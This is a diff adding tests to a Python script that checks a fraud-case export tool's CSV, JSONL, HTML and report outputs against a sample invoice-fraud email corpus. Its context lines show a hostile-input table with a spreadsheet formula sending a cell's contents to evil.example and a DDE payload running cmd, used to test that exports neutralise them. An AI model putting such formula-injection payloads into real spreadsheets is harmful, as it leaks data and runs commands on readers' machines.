@@ -6,6 +6,7 @@ case_exports.py THREADLINE CORPUS; prints one line a fault and exits 1 when ther
 """
 import csv
 import datetime
+import email
 import html.parser
 import io
 import json
@@ -159,6 +160,89 @@ def check_struck(case, folder):
     expect(first.read_bytes() == again.read_bytes(), "the same journal gave other bytes")
 
 
+def check_columns(case):
+    """The spreadsheet's twelve columns come first in every csv, of a case as of a run (docs/cli.md, Rows)."""
+    promised = {"fr": ["Date", "Heure", "Fuseau", "Source", "Acteur", "Action", "Commentaires", "Gravité"],
+                "en": ["Date", "Time", "Zone", "Source", "Actor", "Action", "Comments", "Severity"]}
+    for language, titles in promised.items():
+        titles = [*titles, "Code", "Message-ID", "SHA-256", "Id"]
+        for form in (("case", "export", case, "--lang", language, "--format", "csv"),
+                     ("scan", "--lang", language, "--format", "csv", CORPUS / "kit-de-survie" / "thread")):
+            first = next(csv.reader(io.StringIO(run(*form).decode("utf-8-sig"))))
+            expect(first[:12] == titles, f"csv columns of {form[0]} in {language}: {first}")
+
+
+def check_order(case):
+    """For programs: known_at, then source, then id, both tabs in one order; what has no time stands last."""
+    rows = [json.loads(line) for line in run("case", "export", case, "--format", "jsonl").splitlines()]
+    keys = [(row["known_at"] is None, row["known_at"] or "", row["source"].encode(), row["id"]) for row in rows]
+    expect(keys == sorted(keys), f"jsonl: not in the order of docs/cli.md: {[row['row'] for row in rows]}")
+    expect({"action", "message"} <= {row["kind"] for row in rows}, "jsonl: a tab is missing")
+    table = list(csv.DictReader(io.StringIO(run("case", "export", case, "--lang", "en", "--format", "csv").decode("utf-8-sig"))))
+    expect([row["Id"] for row in table] == [row["id"] for row in rows if row["kind"] != "action"], "csv: another order than jsonl")
+
+
+class Blocks(html.parser.HTMLParser):
+    """Tables as lists of rows, and nodes of trees as (depth, class, text)."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.tables, self.nodes, self.depth, self.cell, self.node = [], [], 0, None, None
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        css = dict(attrs).get("class") or ""
+        if tag == "table":
+            self.tables.append((css, []))
+        elif tag == "tr":
+            self.tables[-1][1].append([])
+        elif tag in {"td", "th"}:
+            self.cell = ""
+        elif tag == "ul" and css == "tree":
+            self.depth += 1
+        elif tag == "ul":
+            self.depth += 1000
+        elif tag == "div" and css.startswith("node"):
+            self.node = [self.depth, css, ""]
+
+    def handle_endtag(self, tag):
+        if tag in {"td", "th"}:
+            self.tables[-1][1][-1].append(self.cell)
+            self.cell = None
+        elif tag == "ul":
+            self.depth -= 1000 if self.depth >= 1000 else 1
+        elif tag == "div" and self.node:
+            self.nodes.append(self.node)
+            self.node = None
+
+    def handle_data(self, data):
+        if self.cell is not None:
+            self.cell += data
+        if self.node is not None:
+            self.node[2] += data
+
+
+def check_page(case):
+    """The false message in its conversation, both accounts side by side, and its route: of a case as of one run."""
+    evidence = [CORPUS / "kit-de-survie" / "thread", CORPUS / "kit-de-survie" / "fraud"]
+    for form in (("case", "export", case, "--format", "html"), ("scan", "--lang", "fr", "--format", "html", *evidence)):
+        page = Blocks(run(*form).decode())
+        pairs = [rows for css, rows in page.tables if css == "pair"]
+        expect(len(pairs) == 1 and pairs[0][0] == ["", "Avant", "Après"], f"{form[0]} html: accounts {pairs}")
+        account = next((row for row in pairs[0] if row[0] == "Compte"), ["", "", ""])
+        expect("1999 8004 1200" in account[1] and "1988 7015 3000" in account[2], f"{form[0]} html: not side by side: {account}")
+        story = [(depth, "false" in css, text.split("@")[1].split(">")[0]) for depth, css, text in page.nodes]
+        true, imitation = "meridienne-groupe.example", "meridiene-groupe.example"
+        expect(story == [(1, False, true), (2, False, true), (3, False, true), (4, True, imitation), (5, False, true)],
+               f"{form[0]} html: conversation {story}")
+        expect("FAUX MESSAGE" in page.nodes[3][2], f"{form[0]} html: the false message is not marked")
+        forward = email.message_from_bytes((CORPUS / "kit-de-survie" / "fraud" / "4-transfert.eml").read_bytes())
+        inner = next(part.get_payload(0) for part in forward.walk() if part.get_content_type() == "message/rfc822")
+        hops = [rows for css, rows in page.tables if css == "hops"][0]
+        expect(len(hops) - 1 == len(inner.get_all("Received")), f"{form[0]} html: {len(hops) - 1} hops")
+        expect(all(len(row) == 7 and row[4] for row in hops), f"{form[0]} html: hops {hops}")
+
+
 HOSTILE = {
     "formula": "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
     "command": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -252,6 +336,13 @@ def check_report(case, folder):
     for line in report.splitlines():
         if "CEST" in line and line.startswith("- "):
             expect("(ligne " in line, f"report: a fact without its row: {line}")
+    expect("08/04/2018 14:35 CEST" in report, "report: 72 hours after the first action, on the case's clock")
+    abroad = folder / "abroad"
+    run("case", "init", "--lang", "en", abroad)
+    run("case", "add", abroad, "--kind", "payment", "--debited", "GB33BUKB20201555555555", "--amount", "5 GBP")
+    english = run("case", "report", abroad).decode()
+    expect("Tracfin" not in english and english.find("Call the fraud department") in range(english.find("1. "), english.find("2. ")),
+           f"report: a bank abroad: {english}")
     private = folder / "private"
     private.mkdir()
     fraud = (CORPUS / "kit-de-survie" / "fraud" / "4-transfert.eml").read_bytes()
@@ -265,6 +356,8 @@ def check_report(case, folder):
     headers, whole = (run("case", "report", personal, *flags).decode() for flags in ((), ("--include-private",)))
     expect("Personnel: facturation" in headers and "message marqué personnel" in headers, "report: a personal mail's headers are missing")
     expect("audit de notre compte habituel" in whole and "audit de notre compte habituel" not in headers, "report: what a personal mail says")
+    false_account = "7015 3000 0876"
+    expect(false_account in whole and not re.search("70153000", headers) and false_account not in headers, "report: an account of a personal mail")
     verify = run("case", "verify", personal).decode()
     expect("Chaîne entière" in verify, verify)
 
@@ -315,10 +408,14 @@ def main():
         folder = pathlib.Path(name)
         case = article_case(folder)
         check_article_workbook(case, folder)
+        check_columns(case)
+        check_order(case)
+        check_page(case)
         check_report(case, folder)
         check_struck(case, folder)
         hostile = hostile_case(folder)
         check_hostile(hostile, folder)
+        check_order(hostile)
         check_timesketch(hostile)
         check_timestamp(hostile, folder)
         check_scan(folder)
